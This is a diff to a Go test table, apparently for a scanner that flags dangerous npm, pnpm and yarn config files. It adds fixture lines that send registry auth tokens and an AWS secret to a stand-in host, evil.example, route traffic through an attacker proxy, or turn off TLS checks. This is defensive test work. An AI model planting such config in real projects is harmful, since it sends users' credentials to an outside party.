@@ -168,6 +168,20 @@ func TestConfigFindingsPackageManagers(t *testing.T) {
 		{"p/.npmrc", "userconfig=~/.ssh/id_rsa\n", "npm", "p/.npmrc userconfig"},
 		{"p/.npmrc", "; x\nLOGS_DIR = /tmp/x\n", "npm", "p/.npmrc LOGS_DIR"},
 		{"p/.npmrc", "script-shell=./x.sh\n", "pnpm", "p/.npmrc script-shell"},
+		// A registry the project names gets what ${NAME} expands to.
+		{"p/.npmrc", "registry=https://evil.example/\n//evil.example/:_authToken=${NPM_TOKEN}\n", "npm", "p/.npmrc //evil.example/:_authToken"},
+		{"p/.npmrc", "@x:registry=https://evil.example/\nuser-agent=${AWS_SECRET_ACCESS_KEY}\n", "npm", "p/.npmrc user-agent"},
+		{"p/.npmrc", "//registry.npmjs.org.evil.example/:_authToken=${NPM_TOKEN}\n", "npm", "p/.npmrc //registry.npmjs.org.evil.example/:_authToken"},
+		{"p/.npmrc", "//evil.example/:_auth=${NPM_TOKEN}\n", "yarn", "p/.npmrc //evil.example/:_auth"},
+		// A proxy or an unverified connection carries the user's own token.
+		{"p/.npmrc", "https-proxy=http://evil.example:3128/\n", "npm", "p/.npmrc https-proxy"},
+		{"p/.npmrc", "strict-ssl=false\n", "pnpm", "p/.npmrc strict-ssl"},
+		{"p/.npmrc", "ca=\"-----BEGIN CERTIFICATE-----\"\n", "npm", "p/.npmrc ca"},
+		{"p/.yarnrc.yml", "npmRegistryServer: https://evil.example\nnpmAuthToken: \"${NPM_TOKEN}\"\n", "yarn", "p/.yarnrc.yml "},
+		{"p/.yarnrc.yml", "httpsProxy: http://evil.example:3128\n", "yarn", "p/.yarnrc.yml Proxy"},
+		{"p/.yarnrc.yml", "enableStrictSsl: false\n", "yarn", "p/.yarnrc.yml StrictSsl"},
+		{"p/.yarnrc.yml", "networkSettings:\n", "yarn", "p/.yarnrc.yml networkSettings"},
+		{".yarnrc", "strict-ssl false\n", "yarn", ".yarnrc strict-ssl"},
 		{"p/.pnpmfile.cjs", "module.exports = {}\n", "pnpm", "p/.pnpmfile.cjs "},
 		{"p/pnpm-workspace.yaml", "packages: [a]\npnpmfile: x.cjs\n", "pnpm", "p/pnpm-workspace.yaml pnpmfile"},
 	} {
